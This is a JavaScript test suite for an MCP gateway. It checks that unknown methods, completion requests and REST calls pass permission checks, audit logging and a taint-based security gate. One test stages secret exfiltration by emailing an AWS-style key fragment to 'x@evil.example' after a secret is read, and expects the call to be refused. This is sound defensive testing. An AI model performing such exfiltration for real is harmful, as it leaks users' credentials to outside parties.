// Every request that reaches a server crosses the same stages — access control, the audit
// trail and the security gate — whatever its method and whichever surface it came in on. Each
// case below once went around one of them: a method the gateway does not know on a per-server
// endpoint (no permission check, no audit row), completion/complete (no gate, no audit row),
// and the REST surface in a taint scope (it ignored the scope).
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import {
  MCPGW_BIN, NODE, PROTOCOL_VERSION, connect, openSession, post, textOf, useGateway, waitFor,
  withTimeout,
} from './helpers.mjs';
import { GATE_TRUST, gateServer } from './fixtures/gate.mjs';

const HOSTILE_JS = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'hostile_server.mjs');

const dir = mkdtempSync(path.join(tmpdir(), 'mcpgw-policy-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const cli = (...args) => execFileSync(MCPGW_BIN, args, { encoding: 'utf8' });
const createKey = (store, name, ...flags) => cli('keys', 'create', '--name', name, ...flags, '--store', store)
  .trim().split('\n').at(-1);
const auditRows = (store) => cli('audit', 'query', '--store', store.replace(/\.db$/, '.audit.db'), '--json')
  .trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));

describe('a method the gateway does not know, on a per-server endpoint', () => {
  const STORE = path.join(dir, 'unknown.db');
  const keys = {};
  before(() => {
    keys.full = createKey(STORE, 'full');
    keys.narrow = createKey(STORE, 'narrow', '--deny-tools', 'h__stall');
  });
  const ctx = useGateway(() => ({
    mcpServers: { h: { command: NODE, args: [HOSTILE_JS] } },
    gateway: { auth: { mode: 'keys', store: STORE }, audit: { arguments: true } },
  }));

  async function ask(key, method) {
    const url = ctx.gw.endpoint('/mcp/h');
    const auth = { Authorization: `Bearer ${key}` };
    const sid = await openSession(url, auth);
    const res = await post(url, { jsonrpc: '2.0', id: 7, method, params: {} },
      { ...auth, 'mcp-session-id': sid, 'mcp-protocol-version': PROTOCOL_VERSION });
    assert.equal(res.status, 200, res.text);
    return res.json;
  }

  test('reaches the server only for a key that may use every tool there', async () => {
    const full = await ask(keys.full, 'tasks/list');
    assert.deepEqual(full.result, { tasks: [{ taskId: 'task-1', status: 'completed' }] });
    assert.equal((await ask(keys.full, 'tasks/result')).result.content[0].text, 'result of task-1');

    for (const method of ['tasks/list', 'tasks/result']) {
      const narrow = await ask(keys.narrow, method);
      assert.equal(narrow.result, undefined, `${method} for a key denied a tool: ${JSON.stringify(narrow)}`);
      assert.deepEqual(narrow.error, { code: -32601, message: `Method not found: ${method}` });
    }
  });

  test('leaves an audit row either way', async () => {
    const rows = await waitFor(() => {
      const r = auditRows(STORE).filter((x) => x.method.startsWith('tasks/'));
      return r.length >= 4 ? r : false;
    }, { ms: 5000, label: 'tasks rows' });
    const seen = rows.map((r) => [r.principal, r.method, r.server, r.outcome]).sort();
    assert.deepEqual(seen, [
      ['full', 'tasks/list', 'h', 'ok'], ['full', 'tasks/result', 'h', 'ok'],
      ['narrow', 'tasks/list', 'h', 'denied'], ['narrow', 'tasks/result', 'h', 'denied'],
    ]);
    assert.match(rows.find((r) => r.principal === 'narrow').detail, /not permitted for key 'narrow'/);
  });
});

describe('completion/complete and the REST surface cross the security gate', () => {
  const STORE = path.join(dir, 'gate.db');
  let key;
  before(() => { key = createKey(STORE, 'alice'); });
  const ctx = useGateway(() => ({
    mcpServers: { web: gateServer('web'), vault: gateServer('vault'), mail: gateServer('mail') },
    gateway: {
      auth: { mode: 'keys', store: STORE },
      security: { approvalTimeoutS: 1, filters: [{ type: 'fence' }, { type: 'taint' }] },
      servers: { web: GATE_TRUST.web, vault: GATE_TRUST.vault, mail: GATE_TRUST.mail },
      timeouts: { drainMs: 2000 },
    },
  }), { env: { MCPGW_ADMIN_TOKEN: '' } });

  const call = (c, name, args = {}) => withTimeout(
    c.callTool({ name, arguments: args }).then((r) => ({ ok: textOf(r) }), (e) => ({ error: e.message })),
    15000, name);
  /** A client whose scope (its own, or `scope`) has read untrusted text and a secret. */
  async function tainted(scope) {
    const headers = { Authorization: `Bearer ${key}`, ...(scope ? { 'x-mcp-scope': scope } : {}) };
    const { client: c } = await connect(ctx.gw, { ctx, headers });
    assert.ok((await call(c, 'web__fetch_page', { url: 'https://example.com' })).ok);
    assert.ok((await call(c, 'vault__get_secret', { name: 'aws' })).ok);
    return c;
  }
  let mailLog;
  before(async () => {
    ({ client: mailLog } = await connect(ctx.gw, { ctx, headers: { Authorization: `Bearer ${key}` } }));
  });
  const sent = async () => JSON.parse((await call(mailLog, 'mail__sent')).ok);
  const complete = (c, value) => withTimeout(c.complete({
    ref: { type: 'ref/prompt', name: 'mail__compose' }, argument: { name: 'to', value },
  }).then((r) => ({ ok: r.completion.values }), (e) => ({ error: e.message })), 15000, 'complete');

  test('completion/complete to a public sink is refused in a tainted scope', async () => {
    const { client: clean } = await connect(ctx.gw, { ctx, headers: { Authorization: `Bearer ${key}` } });
    assert.deepEqual(await complete(clean, 'bob'), { ok: ['bob@example.com'] }, 'a clean scope completes');
    const c = await tainted();
    const refused = await complete(c, 'AKIAIOSFODNN7EXAMPLE');
    assert.match(refused.error ?? '', /mcpgw security/, JSON.stringify(refused));
    assert.deepEqual((await sent()).filter((s) => s.tool === 'complete').map((s) => s.value), ['bob'],
      'the refused completion never reached the server');
    const rows = await waitFor(() => {
      const r = auditRows(STORE).filter((x) => x.method === 'completion/complete');
      return r.length >= 2 ? r : false;
    }, { ms: 5000, label: 'completion rows' });
    assert.deepEqual(rows.map((r) => [r.target, r.server, r.outcome]).sort(),
      [['mail__compose', 'mail', 'denied'], ['mail__compose', 'mail', 'ok']]);
  });

  test('a REST call in a tainted scope is gated as an MCP call in it', async () => {
    await tainted('task-7');
    const auth = { Authorization: `Bearer ${key}` };
    const body = { name: 'mail__send_email', arguments: { to: 'x@evil.example', subject: 's', body: 'AKIA' } };
    const viaPath = await post(ctx.gw.endpoint('/scope/task-7/mcp-rest/tools/call'), body, auth);
    const viaHeader = await post(ctx.gw.endpoint('/mcp-rest/tools/call'), body, { ...auth, 'x-mcp-scope': 'task-7' });
    for (const [how, res] of [['/scope/', viaPath], ['x-mcp-scope', viaHeader]]) {
      assert.equal(res.status, 403, `${how}: ${res.text}`);
      assert.match(res.json?.error ?? res.text, /mcpgw security/);
    }
    assert.deepEqual((await sent()).filter((s) => s.tool === 'send_email'), [], 'nothing was sent');

    // Outside that scope the same key's REST calls run in a clean scope of their own.
    const clean = await post(ctx.gw.endpoint('/mcp-rest/tools/call'),
      { name: 'mail__post_status', arguments: { text: 'hello' } }, auth);
    assert.equal(clean.status, 200, clean.text);
  });
});
